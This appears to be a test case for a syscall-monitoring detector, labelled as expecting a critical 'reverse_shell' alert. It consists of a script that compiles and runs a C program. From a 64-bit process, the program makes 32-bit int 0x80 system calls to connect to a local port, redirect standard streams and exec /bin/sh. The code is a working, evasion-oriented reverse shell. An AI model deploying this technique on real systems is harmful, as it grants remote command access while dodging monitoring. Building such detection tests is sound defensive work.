# about: a 64-bit program makes the calls of 32 bits
# expect: reverse_shell critical
# needs: python3 gcc
proven 4519
cat >a.c <<'C'
#define _GNU_SOURCE
#include <netinet/in.h>
#include <sys/mman.h>
#include <string.h>
#include <unistd.h>
static long c(long n,long b,long x,long d){long r;asm volatile("int $0x80":"=a"(r):"a"(n),"b"(b),"c"(x),"d"(d):"memory","r8","r9","r10","r11");return (int)r;}
int main(){char*m=mmap(0,4096,3,MAP_PRIVATE|MAP_ANONYMOUS|MAP_32BIT,-1,0);
 struct sockaddr_in*a=(void*)m;a->sin_family=AF_INET;a->sin_port=htons(4519);a->sin_addr.s_addr=htonl(0x7f000001);
 unsigned*w=(void*)(m+64);w[0]=AF_INET;w[1]=SOCK_STREAM;w[2]=0;int s=c(102,1,(long)w,0);
 w[0]=s;w[1]=(unsigned)(long)a;w[2]=sizeof*a;if(c(102,3,(long)w,0)<0)return 1;
 for(int i=0;i<3;i++)c(63,s,i,0);
 strcpy(m+128,"/bin/sh");strcpy(m+160,"sh");unsigned*v=(void*)(m+192);v[0]=(unsigned)(long)(m+160);v[1]=0;return -c(11,(long)(m+128),(long)v,0);}
C
gcc -w -o a a.c
timeout 6 ./a
answered
